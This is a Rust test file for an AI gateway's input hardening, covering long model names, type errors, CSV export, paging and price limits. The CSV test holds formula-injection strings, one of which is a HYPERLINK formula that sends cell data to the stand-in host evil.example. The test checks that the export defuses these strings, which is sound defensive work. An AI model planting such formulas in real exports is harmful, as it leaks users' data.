//! Hostile input stays bounded: model names, deep type errors, CSV formulas, large
//! exports and absurd prices (issue 10, findings 4, 5, 7, 10, 11).

use crate::common;

use common::*;
use reqwest::Method;
use serde_json::{json, Value};
use std::time::Duration;

const WAIT: Duration = Duration::from_secs(10);

async fn echo_server() -> TestServer {
    TestServer::start(ServerOptions::new().plugin(ECHO)).await
}

fn csv_rows(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let header = r.headers().unwrap().iter().map(String::from).collect();
    let rows = r
        .records()
        .map(|rec| rec.unwrap().iter().map(String::from).collect())
        .collect();
    (header, rows)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_huge_model_name_is_refused_and_nothing_large_is_stored() {
    let server = echo_server().await;
    let huge = format!("echo/{}", "x".repeat(1024 * 1024));
    let resp = server.post_chat(&chat_body(&huge, "hi")).await;
    let err = expect_error(resp, 400, "invalid_request_error").await;
    assert_eq!(err["param"], "model", "{err}");
    assert!(
        err["message"]
            .as_str()
            .unwrap()
            .contains("at most 256 bytes"),
        "{err}"
    );
    assert!(
        err.to_string().len() < 1024,
        "the error does not echo the name"
    );
    // The longest accepted name still works, and what is stored stays bounded.
    let longest = format!("echo/{}", "y".repeat(256 - 5));
    let resp = server.post_chat(&chat_body(&longest, "hi")).await;
    assert_eq!(resp.status(), 200);
    let rows = server.wait_for_calls("", 2, WAIT).await;
    for r in &rows {
        assert!(r["model"].as_str().unwrap().len() <= 256, "{r}");
        assert!(r["requested_model"].as_str().unwrap_or("").len() <= 256);
    }
    server.assert_echo_still_works().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn wrong_types_deep_in_the_body_are_400_naming_the_parameter() {
    let server = echo_server().await;
    let cases = [
        (
            json!({"model": "echo/echo-1", "messages": [1, 2]}),
            "messages[0]",
        ),
        (
            json!({"model": "echo/echo-1", "messages": [{"role": "user", "content": 5}]}),
            "messages[0].content",
        ),
        (
            json!({"model": "echo/echo-1", "messages": [{"content": "no role"}]}),
            "messages[0]",
        ),
        (
            json!({"model": "echo/echo-1", "messages": [{"role": "user", "content": "hi"}], "max_tokens": "ten"}),
            "max_tokens",
        ),
        (
            json!({"model": "echo/echo-1", "messages": [{"role": "user", "content": "hi"}], "temperature": "hot"}),
            "temperature",
        ),
        (
            json!({"model": "echo/echo-1", "messages": [{"role": "user", "content": "hi"}], "stop": [1]}),
            "stop[0]",
        ),
    ];
    for (body, param) in cases {
        let resp = server.post_chat(&body).await;
        let err = expect_error(resp, 400, "invalid_request_error").await;
        assert_eq!(err["code"], "invalid_type", "{body}: {err}");
        assert_eq!(err["param"], param, "{body}: {err}");
        assert!(
            err["message"].as_str().unwrap().contains(param),
            "{body}: {err}"
        );
    }
    let resp = server
        .post_json(
            "/v1/embeddings",
            &json!({"model": "echo/echo-embed", "input": {"a": 1}}),
        )
        .await;
    let err = expect_error(resp, 400, "invalid_request_error").await;
    assert_eq!(err["param"], "input", "{err}");
    server.assert_echo_still_works().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn csv_export_defuses_formulas() {
    let server = echo_server().await;
    let evil = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
    ];
    for m in evil {
        // Unknown models: 404, still recorded with the name the client sent.
        let resp = server.post_chat(&chat_body(m, "hi")).await;
        assert_eq!(resp.status(), 404, "{m}");
    }
    server.wait_for_calls("", evil.len(), WAIT).await;
    let resp = server
        .admin(Method::GET, "/api/admin/calls?format=csv", None)
        .await;
    assert_eq!(resp.status(), 200);
    let (header, rows) = csv_rows(&resp.text().await.unwrap());
    let col = header.iter().position(|h| h == "model").unwrap();
    let mut models: Vec<&str> = rows.iter().map(|r| r[col].as_str()).collect();
    models.sort();
    let mut want: Vec<String> = evil.iter().map(|m| format!("'{m}")).collect();
    want.sort();
    assert_eq!(models, want);
    for r in &rows {
        for cell in r {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "cell {cell:?} could run as a formula"
            );
        }
    }
}

/// Fills the call log directly (thousands of calls through HTTP would only slow the test).
fn insert_calls(server: &TestServer, n: usize) {
    python_sqlite(
        &server.data_dir().join("aihub.db"),
        "n = int(sys.argv[2])\n\
         c.executemany(\"INSERT INTO model_calls (request_id, app_id, provider, model, endpoint, stream, status, http_status, input_tokens, output_tokens, cached_tokens, cost_micros, latency_ms, attempts, created_at) VALUES (?, NULL, 'echo', 'echo/echo-1', 'chat', 0, 'ok', 200, 1, 1, 0, 0, 1, 1, ?)\", [('bulk-%d' % i, 1700000000000 + i) for i in range(n)])",
        &[&n.to_string()],
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn csv_export_streams_every_row_and_pages_with_a_cursor() {
    let server = echo_server().await;
    insert_calls(&server, 2500);
    let resp = server
        .admin(Method::GET, "/api/admin/calls?format=csv", None)
        .await;
    assert_eq!(resp.status(), 200);
    assert!(resp.headers().get("x-next-cursor").is_none());
    let (_, rows) = csv_rows(&resp.text().await.unwrap());
    assert_eq!(rows.len(), 2500, "no silent clamp at 1000");

    // A limit cuts the export, and the cursor continues exactly after it.
    let resp = server
        .admin(Method::GET, "/api/admin/calls?format=csv&limit=1200", None)
        .await;
    let cursor: i64 = resp.headers()["x-next-cursor"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    let (header, first) = csv_rows(&resp.text().await.unwrap());
    assert_eq!(first.len(), 1200);
    let id = header.iter().position(|h| h == "id").unwrap();
    assert_eq!(first.last().unwrap()[id], cursor.to_string());
    let resp = server
        .admin(
            Method::GET,
            &format!("/api/admin/calls?format=csv&cursor={cursor}"),
            None,
        )
        .await;
    let (_, rest) = csv_rows(&resp.text().await.unwrap());
    assert_eq!(rest.len(), 1300);
    let mut ids: Vec<i64> = first
        .iter()
        .chain(&rest)
        .map(|r| r[id].parse().unwrap())
        .collect();
    ids.dedup();
    assert_eq!(ids.len(), 2500, "no row twice, none lost");
    assert!(ids.windows(2).all(|w| w[0] > w[1]), "newest first");

    let resp = server
        .admin(Method::GET, "/api/admin/calls?format=csv&limit=0", None)
        .await;
    assert_eq!(resp.status(), 400);
    let resp = server
        .admin(
            Method::GET,
            "/api/admin/calls?since=-9223372036854775808",
            None,
        )
        .await;
    assert!(resp.status().is_success() || resp.status() == 400);
}

#[tokio::test(flavor = "multi_thread")]
async fn absurd_rates_are_refused_and_the_top_rate_costs_exactly() {
    let server = echo_server().await;
    for bad in [json!(1e308), json!(-1), json!(1_000_001)] {
        let resp = server
            .admin(
                Method::PUT,
                "/api/admin/rates/echo/echo-1",
                Some(&json!({"input_per_mtok": bad, "output_per_mtok": 1})),
            )
            .await;
        let err: Value = resp.json().await.unwrap();
        assert_eq!(err["error"]["param"], "input_per_mtok", "{bad}: {err}");
    }
    let long = format!("/api/admin/rates/echo/{}", "m".repeat(300));
    let resp = server
        .admin(
            Method::PUT,
            &long,
            Some(&json!({"input_per_mtok": 1, "output_per_mtok": 1})),
        )
        .await;
    assert_eq!(resp.status(), 400);
    // $1,000,000 per million tokens is accepted and prices a call exactly: $1 a token.
    server
        .admin_ok(
            Method::PUT,
            "/api/admin/rates/echo/echo-1",
            Some(&json!({"input_per_mtok": 1_000_000, "output_per_mtok": 1_000_000})),
            200,
        )
        .await;
    let resp = server.post_chat(&chat_body("echo/echo-1", "hello")).await;
    assert_eq!(resp.status(), 200);
    let rows = server.wait_for_calls("", 1, WAIT).await;
    let r = &rows[0];
    let tokens = r["input_tokens"].as_i64().unwrap() + r["output_tokens"].as_i64().unwrap();
    assert!(tokens > 0, "{r}");
    assert_eq!(
        r["cost_micros"].as_i64().unwrap(),
        tokens * 1_000_000,
        "{r}"
    );
}
